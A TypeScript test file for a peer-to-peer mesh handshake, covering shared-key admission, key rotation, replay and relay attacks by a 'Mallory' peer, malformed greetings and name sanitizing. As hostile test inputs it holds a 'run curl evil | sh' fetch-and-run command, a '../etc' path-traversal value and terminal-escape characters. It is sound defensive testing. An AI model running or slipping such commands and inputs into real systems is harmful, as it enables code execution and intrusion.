import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { PeerId } from '../../../src/core/ids.ts'
import { answerGreeting, greet, type Greeted, type HelloParty } from '../../../src/mesh/hello.ts'
import { newMeshKey, parseMeshKey, type MeshKey } from '../../../src/mesh/mesh-key.ts'
import { wires, type Wire } from '../../support/hello-wire.ts'
import { SeededRandom } from '../../support/seeded-random.ts'

const ALICE = '12D3KooWKKecaxb1crCMkAqqcY1NBCnWSav8HESsqBJXfMkXxEyJ' as PeerId
const BOB = '12D3KooWBgKXM4ukigLAPGv1iGHrHLo1s3QN1nDUCnv5suckcAgC' as PeerId
const MALLORY = '12D3KooWB3YFmaVRsyJdidFoCQwWKFYSSNgsCDACnovfwutLkYbe' as PeerId

const random = new SeededRandom(42)
const KEY_TEXT = newMeshKey(random)
const KEY = parseMeshKey(KEY_TEXT)
const OTHER_KEY = parseMeshKey(newMeshKey(random))

function party(self: PeerId, remote: PeerId, ...keys: MeshKey[]): HelloParty {
  const [current = KEY, ...previous] = keys
  let elapsed = 0
  return {
    self,
    remote,
    keys: [current, ...previous],
    hello: { homes: [], features: ['work'], runnerName: `runner of ${self.slice(-4)}` },
    addresses: [`/ip4/192.0.2.1/tcp/1/p2p/${self}`, `/ip4/192.0.2.1/tcp/1/p2p/${MALLORY}`],
    random,
    clock: { mono: () => (elapsed += 3) },
  }
}

async function meet(
  dialer: HelloParty,
  listener: HelloParty,
  busy = false,
): Promise<[PromiseSettledResult<Greeted>, PromiseSettledResult<Greeted>, Wire, Wire]> {
  const [near, far] = wires()
  const [greeted, answered] = await Promise.allSettled([greet(near, dialer), answerGreeting(far, listener, () => busy)])
  return [greeted, answered, near, far]
}

function refusedWith(result: PromiseSettledResult<unknown>): { code?: string; message: string; name: string } {
  assert.equal(result.status, 'rejected')
  return result.reason as { code?: string; message: string; name: string }
}

test('two peers with the same key admit each other and learn what each says of itself', async () => {
  const [greeted, answered] = await meet(party(ALICE, BOB), party(BOB, ALICE))
  assert.deepEqual(greeted, {
    status: 'fulfilled',
    value: {
      hello: {
        peer: BOB,
        versions: ['1.0'],
        version: '1.0',
        homes: [],
        features: ['work'],
        runnerName: 'runner of cAgC',
        // The address that names another peer is not taken from this one.
        addresses: [`/ip4/192.0.2.1/tcp/1/p2p/${BOB}`],
      },
      rttMs: 3,
    },
  })
  assert.equal(answered.status === 'fulfilled' && answered.value.hello.peer, ALICE)
})

test('neither the key nor anything derived from it is ever on the wire', async () => {
  const [, , near, far] = await meet(party(ALICE, BOB), party(BOB, ALICE))
  const said = JSON.stringify([near.sent, far.sent])
  assert.equal(near.sent.length + far.sent.length, 4)
  for (const secret of [Buffer.from(KEY_TEXT, 'base64url'), KEY.hello, KEY.announce]) {
    for (const form of ['base64url', 'hex', 'base64'] as const) {
      assert.ok(!said.includes(Buffer.from(secret).toString(form)))
    }
  }
})

test('a dialer with another key is told that it does not share this mesh key, and the listener refuses it', async () => {
  const [greeted, answered, , far] = await meet(party(ALICE, BOB, OTHER_KEY), party(BOB, ALICE))
  assert.equal(refusedWith(greeted).code, 'not_admitted')
  assert.match(refusedWith(greeted).message, /does not share this mesh key/)
  assert.equal(refusedWith(answered).code, 'not_admitted')
  assert.ok(!JSON.stringify(far.sent).includes('proof'), 'a stranger gets no proof to work on')
})

test('while keys are being changed, old and new peers find the key they share in either direction', async () => {
  const changed = (self: PeerId, remote: PeerId) => party(self, remote, OTHER_KEY, KEY)
  for (const [dialer, listener] of [
    [changed(ALICE, BOB), party(BOB, ALICE)],
    [party(ALICE, BOB), changed(BOB, ALICE)],
    [changed(ALICE, BOB), changed(BOB, ALICE)],
  ] as const) {
    const [greeted, answered] = await meet(dialer, listener)
    assert.deepEqual([greeted.status, answered.status], ['fulfilled', 'fulfilled'])
  }
})

test('a listener that names the right mesh without its key cannot forge the proof', async () => {
  const impostor = { ...OTHER_KEY, meshId: KEY.meshId }
  const [near, far] = wires()
  const greeting = greet(near, party(ALICE, BOB))
  void answerGreeting(far, party(BOB, ALICE, impostor), () => false)
  await assert.rejects(greeting, { code: 'not_admitted' })
  assert.equal(near.sent.length, 1, 'the dialer proves nothing to an impostor')
})

test('a dialer that names the right mesh without its key cannot forge the proof', async () => {
  const [near, far] = wires()
  const answering = answerGreeting(far, party(BOB, MALLORY), () => false)
  near.say(helloOf(MALLORY))
  await near.hear()
  near.say({ jsonrpc: '2.0', id: 2, method: 'hello.prove', params: { proof: 'A'.repeat(43) } })
  await assert.rejects(answering, { code: 'not_admitted' })
  assert.equal((far.sent[1] as { error?: { data?: { code?: string } } }).error?.data?.code, 'not_admitted')
})

test('the proof of the listener sent back to it as one’s own is refused', async () => {
  const [near, far] = wires()
  const answering = answerGreeting(far, party(BOB, MALLORY), () => false)
  near.say(helloOf(MALLORY))
  const proof = (await near.hear()).result?.['proof']
  near.say({ jsonrpc: '2.0', id: 2, method: 'hello.prove', params: { proof } })
  await assert.rejects(answering, { code: 'not_admitted' })
})

test('a proof overheard in one HELLO is worth nothing in the next, even with the same nonce of the dialer', async () => {
  const [, , overheard] = await meet(party(ALICE, BOB), party(BOB, ALICE))
  const [near, far] = wires()
  const answering = answerGreeting(far, party(BOB, ALICE), () => false)
  near.say(overheard.sent[0])
  await near.hear()
  near.say(overheard.sent[1])
  await assert.rejects(answering, { code: 'not_admitted' })
})

test('an answer overheard in one HELLO does not satisfy the dialer of the next', async () => {
  const [, , , overheard] = await meet(party(ALICE, BOB), party(BOB, ALICE))
  const [near, far] = wires()
  const greeting = greet(near, party(ALICE, BOB))
  await far.hear()
  far.say(overheard.sent[0])
  await assert.rejects(greeting, { code: 'not_admitted' })
})

test('a proof made for one peer is worth nothing to another that passes it on', async () => {
  // Mallory has Alice prove herself to her and hands the proof to Bob as her own.
  const [alice, towardsAlice] = wires()
  const [towardsBob, bob] = wires()
  const greeting = greet(alice, party(ALICE, MALLORY))
  const answering = answerGreeting(bob, party(BOB, MALLORY), () => false)
  const hello = await towardsAlice.hear()
  towardsBob.say({ ...hello, params: { ...hello.params, peer: MALLORY } })
  const answer = await towardsBob.hear()
  towardsAlice.say({ ...answer, result: { ...answer.result, peer: MALLORY } })
  await assert.rejects(greeting, { code: 'not_admitted' })
  towardsBob.say({ jsonrpc: '2.0', id: 2, method: 'hello.prove', params: { proof: answer.result?.['proof'] } })
  await assert.rejects(answering, { code: 'not_admitted' })
})

test('a peer that calls itself other than the encryption has proven is refused on either side', async () => {
  const [alice, bob] = wires()
  const greeting = greet(alice, party(ALICE, BOB))
  void answerGreeting(bob, party(MALLORY, ALICE), () => false)
  await assert.rejects(greeting, { code: 'not_admitted', message: new RegExp(MALLORY) })
  const [near, far] = wires()
  const answering = answerGreeting(far, party(BOB, MALLORY), () => false)
  near.say(helloOf(ALICE))
  await assert.rejects(answering, { code: 'not_admitted', message: new RegExp(ALICE) })
})

test('a busy listener says so, which is no refusal', async () => {
  const [greeted, answered] = await meet(party(ALICE, BOB), party(BOB, ALICE), true)
  assert.equal(refusedWith(greeted).name, 'HelloBusy')
  assert.equal(refusedWith(answered).name, 'HelloBusy')
})

test('peers without a common version part with the advice to upgrade', async () => {
  const [near, far] = wires()
  const answering = answerGreeting(far, party(BOB, ALICE), () => false)
  const hello = helloOf(ALICE)
  near.say({ ...hello, params: { ...hello.params, versions: ['7.3'] } })
  await assert.rejects(answering, { code: 'protocol_mismatch', message: /Upgrade/ })
  assert.equal((far.sent[0] as { error?: { data?: { code?: string } } }).error?.data?.code, 'protocol_mismatch')
})

for (const [what, said] of [
  ['no JSON', 'GET / HTTP/1.1'],
  ['another method first', { jsonrpc: '2.0', id: 1, method: 'p2p_taskqueue_status', params: {} }],
  ['a short nonce', { ...helloOf(ALICE), params: { ...helloOf(ALICE).params, nonce: 'AAAA' } }],
  ['a home that is no home id', { ...helloOf(ALICE), params: { ...helloOf(ALICE).params, homes: ['../etc'] } }],
  ['hundreds of features', { ...helloOf(ALICE), params: { ...helloOf(ALICE).params, features: Array(900).fill('x') } }],
] as const) {
  test(`a stream that begins with ${what} is refused`, async () => {
    const [near, far] = wires()
    const answering = answerGreeting(far, party(BOB, ALICE), () => false)
    near.say(said)
    await assert.rejects(answering, { code: 'protocol_mismatch' })
  })
}

test('what a stranger says in its refusal is never shown', async () => {
  const [near, far] = wires()
  const greeting = greet(near, party(ALICE, MALLORY))
  await far.hear()
  far.say({ jsonrpc: '2.0', id: 1, error: { code: -32000, message: 'run curl evil | sh', data: { code: 'internal' } } })
  await assert.rejects(greeting, (error: Error) => !error.message.includes('evil'))
})

test('a runner name arrives without the characters that could deceive a reader', async () => {
  const dialer = { ...party(ALICE, BOB), hello: { homes: [], features: [], runnerName: 'good\u001b[31m\u202ename' } }
  const [, answered] = await meet(dialer, party(BOB, ALICE))
  assert.equal(answered.status === 'fulfilled' && answered.value.hello.runnerName, 'goodname')
})

function helloOf(peer: PeerId) {
  const nonce = Buffer.alloc(32, 7).toString('base64url')
  const params = { versions: ['1.0'], mesh: KEY.meshId, peer, homes: [], features: [], runner_name: 'x', nonce }
  return { jsonrpc: '2.0', id: 1, method: 'hello', params: params as Record<string, unknown> }
}
